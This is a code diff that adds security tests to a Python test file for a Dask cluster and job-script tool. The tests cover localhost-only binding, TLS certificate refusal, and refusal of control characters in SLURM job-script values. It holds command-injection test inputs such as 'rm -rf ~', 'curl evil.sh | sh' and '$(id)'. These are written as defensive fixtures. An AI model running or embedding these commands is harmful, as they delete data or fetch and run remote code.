@@ -328,3 +328,147 @@ def test_make_cluster_local_sized_to_the_machine():
             spec = next(iter(local.worker_spec.values()))["options"]
             assert spec["nthreads"] == threads and spec["memory_limit"] == "1GB"
 
+
+
+# --- security: localhost, TLS, job scripts that say only what they are meant to -------------
+
+
+def _listening() -> set[tuple[int, str, int]]:
+    """(pid, ip, port) of every listening socket of this process and its children."""
+    import psutil
+
+    me = psutil.Process()
+    found = set()
+    for proc in [me, *me.children(recursive=True)]:
+        try:
+            conns = proc.net_connections(kind="inet")
+        except psutil.Error:
+            continue
+        found |= {(proc.pid, c.laddr.ip, c.laddr.port) for c in conns
+                  if c.status == psutil.CONN_LISTEN}
+    return found
+
+
+def refused(address: str, security=None) -> bool:
+    """Whether the scheduler at ``address`` refuses a connection made without its
+    certificates (plain TCP, or TLS with other certificates)."""
+    import asyncio
+
+    from distributed.comm import connect
+
+    async def attempt():
+        args = security.get_connection_args("client") if security is not None else {}
+        comm = await connect(address, timeout="5s", **args)
+        await comm.write({"op": "identity"})
+        await comm.read()
+        await comm.close()
+
+    try:
+        asyncio.run(attempt())
+    except (OSError, TimeoutError):
+        return True
+    return False
+
+
+def test_a_local_cluster_listens_on_localhost_only():
+    """Defect 8: the local dashboard listened on every interface."""
+    before = _listening()
+    with make_client({"kind": "local", "n-workers": 1, "threads-per-worker": 1,
+                      "dashboard-address": ":0"}, quiet=True) as client:
+        opened = _listening() - before
+        dashboard = client.dashboard_link
+    assert opened, "no listening socket found"
+    assert {ip for _, ip, _ in opened} <= {"127.0.0.1", "::1"}, opened
+    assert dashboard.startswith("http://127.0.0.1:")
+
+
+@pytest.mark.parametrize(("given", "bound"), [
+    (None, "127.0.0.1:8787"), (":0", "127.0.0.1:0"), ("8790", "127.0.0.1:8790"),
+    ("0.0.0.0:8787", "0.0.0.0:8787"), ("10.1.2.3:9000", "10.1.2.3:9000"),
+])
+def test_dashboards_default_to_localhost(given, bound):
+    from smd_dist.engine.clusters import dashboard_address
+
+    assert dashboard_address(given) == bound
+
+
+def test_security_true_makes_a_tls_local_cluster_others_cannot_join():
+    """Defect 8: `security: true` gives temporary certificates to scheduler, workers and
+    client; a client without them is refused; a user's Security object connects."""
+    from distributed import Security
+
+    with make_client({"kind": "local", "n-workers": 1, "threads-per-worker": 1,
+                      "dashboard-address": ":0", "security": True}, quiet=True) as client:
+        address = client.scheduler.address
+        assert address.startswith("tls://127.0.0.1:")
+        assert client.submit(sum, [1, 2]).result() == 3
+        assert all(w.startswith("tls://") for w in client.scheduler_info()["workers"])
+        assert refused(address.replace("tls://", "tcp://"))
+        assert refused(address, Security.temporary())
+        assert not refused(address, client.cluster.security)
+        security = client.cluster.security
+        with make_client({"kind": "address", "address": address}, security=security,
+                         quiet=True) as second:
+            assert second.submit(sum, [3, 4]).result() == 7
+
+
+def test_security_is_refused_where_it_cannot_apply():
+    with pytest.raises(ConfigError, match="'security' must be true or false"):
+        resolve_config({"security": "yes"})
+    with pytest.raises(ConfigError, match="kind 'address'.*Security"):
+        with make_client({"kind": "address", "address": "tcp://127.0.0.1:1",
+                          "security": True}):
+            pass
+
+
+def test_job_script_with_security_uses_tls(tmp_path, monkeypatch):
+    monkeypatch.setenv("PATH", str(tmp_path))
+    worker = job_script({**SLURM, "security": True,
+                         "shared-temp-directory": str(tmp_path)}).splitlines()[-1]
+    assert " tls://" in worker and "--protocol tls://" in worker
+    for option in ("--tls-ca-file", "--tls-cert", "--tls-key"):
+        assert option in worker
+    assert "BEGIN" not in worker  # certificates travel as files, never in the script
+
+
+@pytest.mark.parametrize(("key", "value"), [
+    ("name", "dask\necho pwned"),
+    ("name", "my job"),
+    ("job-extra-directives", ["--gres=gpu:1\nrm -rf ~"]),
+    ("worker-extra-args", ["--lifetime 5m\ncurl evil.sh | sh"]),
+    ("job-script-prologue", ["module load cuda\rcurl evil.sh | sh"]),
+    ("queue", "gpu\n#SBATCH --uid=0"),
+    ("account", "lab\x00"),
+])
+def test_control_characters_in_job_script_values_are_refused(key, value):
+    """Defect 11: a newline in a value became a shell line of the job script."""
+    cfg = {k: v for k, v in SLURM.items() if k.replace("_", "-") != key}
+    with pytest.raises(ConfigError, match=f"cluster '{key}'"):
+        job_script({**cfg, key: value})
+
+
+def test_worker_extra_args_are_quoted_in_the_job_script(tmp_path, monkeypatch):
+    monkeypatch.setenv("PATH", str(tmp_path))
+    args = ["--resources GPU=1;touch /tmp/pwned", "--memory-target-fraction", "$(id)"]
+    worker = job_script({**SLURM, "worker-extra-args": args}).splitlines()[-1]
+    assert "--resources 'GPU=1;touch' /tmp/pwned" in worker
+    assert "'$(id)'" in worker and "--memory-target-fraction" in worker
+    assert "--lifetime 55m" in worker
+
+
+def test_compute_distances_joins_a_tls_scheduler_with_the_users_security(tmp_path):
+    from distributed import LocalCluster, Security
+
+    from smd_dist.engine import compute_distances
+    from smd_dist.store import ActivationStore
+
+    store = ActivationStore(tmp_path / "s", mode="w")
+    rng = __import__("numpy").random.default_rng(0)
+    for layer in ("a", "b", "c"):
+        store.write("m", layer, rng.normal(size=(12, 4)))
+    security = Security.temporary()
+    with LocalCluster(n_workers=1, threads_per_worker=1, processes=False,
+                      dashboard_address=None, security=security) as cluster:
+        address = {"kind": "address", "address": cluster.scheduler_address}
+        ds = compute_distances(store, cluster=address, security=security, progress=False)
+        assert ds.sizes["rep_a"] == 3 and not ds.attrs["failed_pairs"]
